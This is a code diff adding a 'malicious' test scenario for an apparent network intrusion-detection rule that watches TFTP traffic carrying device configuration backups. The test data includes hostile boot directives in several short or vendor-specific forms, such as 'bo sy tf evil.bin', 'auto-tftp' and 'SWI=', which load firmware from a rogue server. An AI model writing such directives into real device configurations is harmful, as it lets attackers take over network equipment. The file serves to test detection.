@@ -212,3 +212,37 @@ def bw08_behind_banners(wire: Wire) -> None:
     tftp.read(wire, "10.0.1.51", BOOT_SERVER, "edge51-confg", config("edge51", lines), client_port=50051)
     lines = ("banner motd ~", f"boot system {EVIL}")
     tftp.read(wire, "10.0.1.52", BOOT_SERVER, "edge52-confg", config("edge52", lines), client_port=50052)
+
+
+RARER = [
+    *(("BW08", rule, f"10.0.1.{last}", BOOT_SERVER) for last, rule in ((61, 7), (63, 1542007791), (64, 1542007793))),
+]
+
+
+@scenario(
+    "BW08",
+    "malicious",
+    raises=[*RARER, ("BW08", 9, "10.0.1.62", BOOT_SERVER), ("BW08", 8, BOOT_SERVER, "10.0.1.65")],
+    # Where servers are declared, asking the network for no server by name is nothing wrong.
+    raises_with_site=RARER,
+    site=HQ,
+    with_site=Expect(
+        (
+            served(61, "access61.cfg"),
+            served(63, "boot-config"),
+            served(64, "edge64-confg"),
+        )
+    ),
+)
+def bw08_in_rarer_ways(wire: Wire) -> None:
+    """Backups hold other vendors' and the shortest lines; one that is read asks the network."""
+    short = f"version 15.7\nhostname edge\n!\nbo sy tf evil.bin {ROGUE}\n!\nend\n".encode()
+    asks = b"version 15.7\nhostname edge\n!\nservice config\n!\nend\n"
+    for last, name, text in (
+        (61, "access61.cfg", procurve(f"auto-tftp {ROGUE} W_evil.swi")),
+        (62, "edge62-confg", asks),
+        (63, "boot-config", f"SWI={EVIL}\n".encode()),
+        (64, "edge64-confg", short),
+    ):
+        tftp.write(wire, f"10.0.1.{last}", BOOT_SERVER, name, text, client_port=50000 + last)
+    tftp.read(wire, "10.0.1.65", BOOT_SERVER, "edge65-confg", asks, client_port=50065)
